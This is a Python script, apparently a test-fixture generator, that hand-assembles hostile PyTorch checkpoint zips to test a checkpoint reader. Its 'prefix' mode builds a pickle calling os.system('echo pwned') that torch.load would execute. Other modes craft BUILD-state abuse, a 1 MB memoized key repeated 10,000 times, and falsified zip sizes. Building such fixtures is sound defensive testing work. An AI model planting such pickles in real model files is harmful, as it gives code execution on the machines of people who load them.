#!/usr/bin/python3
"""Writes a PyTorch zip checkpoint whose pickle is hand-assembled to break one rule of the reader (standard
library only; the opcodes are written out, nothing is pickled from Python objects).

usage: write_hostile_torch_zip.py OUT.pt MODE
  prefix         the first member names folder b/, whose data.pkl calls os.system; folder a/ holds a clean
                 state dict listed first among the data.pkl members (torch.load runs b/data.pkl)
  no-folder      the first member is in no folder (torch.load refuses the file)
  build          a tensor followed by BUILD with a (storage, offset, size, stride) state: torch.load would
                 re-set its view with set_()
  ordered-pairs  the state dict is OrderedDict([('w', tensor)]): torch.load reads the pair
  long-key       a tensor under a key of 5,000 characters
  shared-key     10,000 entries whose keys are one memoized 1 MB string and whose values are integers
  size-lie       data.pkl's directory entries say it is 1,000,000,000 bytes
"""
import struct
import sys
import zipfile


def text(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def integer(n):
    return b"K" + bytes([n]) if n < 256 else b"J" + struct.pack("<i", n)


def ints(values):
    return b"(" + b"".join(integer(v) for v in values) + b"t"


def ordered_dict():
    return glob("collections", "OrderedDict") + b")R"


def storage(key, numel):
    # The persistent id torch.save writes: ('storage', storage type, key, location, numel).
    return b"(" + text("storage") + glob("torch", "FloatStorage") + text(key) + text("cpu") + integer(numel) + b"tQ"


def tensor(key="0", numel=2, size=(2,), stride=(1,)):
    return (glob("torch._utils", "_rebuild_tensor_v2") + b"(" + storage(key, numel) + integer(0) + ints(size) +
            ints(stride) + b"\x89" + ordered_dict() + b"tR")


def state_dict(entries):
    return b"\x80\x02" + ordered_dict() + b"(" + entries + b"u."


def write(path, members):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)


out, mode = sys.argv[1], sys.argv[2]
floats = struct.pack("<2f", 1.0, 2.0)
clean = state_dict(text("w") + tensor())
if mode == "prefix":
    evil = b"\x80\x02" + glob("os", "system") + text("echo pwned") + b"\x85R."
    write(out, [("b/version", b"3\n"), ("a/data.pkl", clean), ("a/data/0", floats), ("b/data.pkl", evil)])
elif mode == "no-folder":
    write(out, [("evil", b"x"), ("archive/data.pkl", clean), ("archive/data/0", floats)])
elif mode == "build":
    state = b"(" + storage("0", 12) + integer(0) + ints((3, 4)) + ints((4, 1)) + b"t"
    program = state_dict(text("w") + tensor(numel=12) + state + b"b")
    write(out, [("archive/data.pkl", program), ("archive/data/0", b"\0" * 48)])
elif mode == "ordered-pairs":
    pairs = b"(]" + b"(" + text("w") + tensor() + b"t" + b"a" + b"t"
    program = b"\x80\x02" + glob("collections", "OrderedDict") + pairs + b"R."
    write(out, [("archive/data.pkl", program), ("archive/data/0", floats)])
elif mode == "long-key":
    write(out, [("archive/data.pkl", state_dict(text("k" * 5000) + tensor())), ("archive/data/0", floats)])
elif mode == "shared-key":
    # The key once, memoized (BINPUT 0), then named again by BINGET 0 for every other entry.
    entries = text("k" * 1_000_000) + b"q\x00" + integer(1) + b"".join(b"h\x00" + integer(1) for _ in range(9999))
    write(out, [("archive/data.pkl", state_dict(entries + text("w") + tensor())), ("archive/data/0", floats)])
elif mode == "size-lie":
    write(out, [("archive/data.pkl", clean), ("archive/data/0", floats)])
    data = bytearray(open(out, "rb").read())
    lie = struct.pack("<I", 1_000_000_000)
    local = data.find(b"PK\x03\x04")  # the first member's local header: sizes at 18 and 22
    data[local + 18:local + 26] = lie + lie
    central = data.find(b"PK\x01\x02")  # its central directory entry: sizes at 20 and 24
    data[central + 20:central + 28] = lie + lie
    open(out, "wb").write(bytes(data))
else:
    sys.exit("unknown mode " + mode)
